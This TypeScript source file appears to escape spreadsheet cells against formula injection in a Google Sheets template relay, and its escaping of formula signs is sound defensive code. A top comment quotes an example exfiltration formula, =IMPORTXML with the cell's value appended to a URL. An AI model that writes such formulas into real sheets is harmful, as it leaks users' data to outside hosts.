import { Rejected, type Place } from "cal-relay/sdk";
import type { Cell } from "./options.ts";

// With `valueInput: user-entered` Google runs what looks like a formula, and `=IMPORTXML("https://…" & A1)` in a stranger's name would
// carry the sheet's data away. A leading ' makes a cell text and is not shown. A cell is a formula only where the target's author wrote
// the = himself. Full-width signs count as their plain ones.

const BEGINS_FORMULA = /^\s*[=＝]/;
const BEGINS_SUM = /^[\t\r]|^\s*[+\-@＋－＠]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** A = of the author's at the cell's start, or where it comes to stand there once what precedes it is empty. */
const AUTHORS_FORMULA = /^\s*[=＝]|[%}]\}\s*[=＝]/;

/** What a template may put into a cell. Throws Rejected for a text that could become part of the author's formula itself. */
export function keepAsText(text: string, { path, root, template }: Place): string {
  if (path[0] !== "row" || isRaw(root)) return text;
  if (!AUTHORS_FORMULA.test(template)) return BEGINS_FORMULA.test(text) ? `'${text}` : text;
  if (NUMBER.test(text)) return text;
  const doubled = text.replaceAll('"', '""');
  const where = placeOfOutputs(template);
  if (where === "inside quotes") return doubled;
  if (where === "outside quotes" && BEGINS_FORMULA.test(template)) return `"${doubled}"`;
  const name = path.slice(1).join(".");
  throw new Rejected(
    `row.${name}: put every {{ }} of the formula inside quotes, as in =UPPER("{{ … }}"), and use no {% %}`,
  );
}

/** A whole cell, of whatever origin: no author needs a formula that begins with + - or @, and phone numbers do. */
export function withoutSums(cell: Cell): Cell {
  return typeof cell === "string" && BEGINS_SUM.test(cell) && !NUMBER.test(cell) ? `'${cell}` : cell;
}

/** Anything but a plain `raw` counts as user-entered: a template there may turn out to be either. */
function isRaw(root: unknown): boolean {
  if (typeof root !== "object" || root === null || !("valueInput" in root)) return true;
  return root.valueInput === undefined || root.valueInput === "raw";
}

/** Where the `{{ }}` of a formula stand. Unclear where some stand here and some there, or where tags decide which quotes there are. */
function placeOfOutputs(template: string): "inside quotes" | "outside quotes" | "unclear" {
  const formula = template.replaceAll(/\{\{.*?\}\}/gs, "\0");
  if (/\{%|\}\}/.test(formula)) return "unclear";
  const parts = formula.split('"').map((part) => part.includes("\0"));
  const inside = parts.some((holds, at) => holds && at % 2 === 1);
  const outside = parts.some((holds, at) => holds && at % 2 === 0);
  if (inside && outside) return "unclear";
  return inside ? "inside quotes" : "outside quotes";
}
